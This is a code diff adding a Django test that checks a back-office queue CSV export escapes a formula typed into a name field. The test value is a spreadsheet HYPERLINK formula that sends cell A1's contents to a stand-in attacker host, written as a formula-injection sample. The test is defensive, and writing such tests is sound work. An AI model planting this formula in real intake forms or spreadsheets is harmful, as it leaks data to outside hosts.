@@ -150,3 +150,16 @@ def test_query_counts_are_bounded_and_do_not_grow_with_cases(
         client.get(reverse("backoffice:case", args=[case.reference]))
     # Session, user, permissions, language, counts, page, rows, needs, staff menus, audit...
     _queue_and_case_queries(client, django_assert_max_num_queries, case, 12, 17)
+
+
+def test_queue_export_writes_a_formula_typed_as_a_name_as_text(case_manager, client):
+    """A name typed at intake as a formula opens in a spreadsheet as the text typed."""
+    import csv
+    import io
+
+    open_case(name='=HYPERLINK("https://evil.example/?"&A1,"Click")', assignee=case_manager)
+    client.force_login(case_manager)
+    response = client.get(reverse("backoffice:queue_export") + "?status=all")
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+    names = [row[-1] for row in rows[1:]]
+    assert names == ['\'=HYPERLINK("https://evil.example/?"&A1,"Click")']
